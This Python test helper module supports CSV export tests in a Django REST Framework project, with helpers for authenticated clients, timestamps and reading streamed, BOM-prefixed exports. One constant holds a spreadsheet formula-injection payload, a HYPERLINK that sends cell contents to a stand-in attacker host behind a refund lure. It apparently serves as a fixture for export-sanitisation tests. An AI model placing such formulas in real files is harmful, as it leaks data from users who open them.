"""What the exports' tests share besides fixtures: reading an export, clients."""

import csv
import io
from datetime import UTC, datetime

from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

LINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Claim your refund")'
HATCH_NUMBER = "+15005550006"  # hatch.test_settings' TWILIO_FROM_NUMBER


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def client_for(user) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


def read_csv(content: bytes) -> list[list[str]]:
    """The rows of an export, its header first; it must start with the byte order mark."""
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def streamed(response) -> bytes:
    assert response.streaming, "an export is streamed, never built whole"
    return b"".join(response.streaming_content)
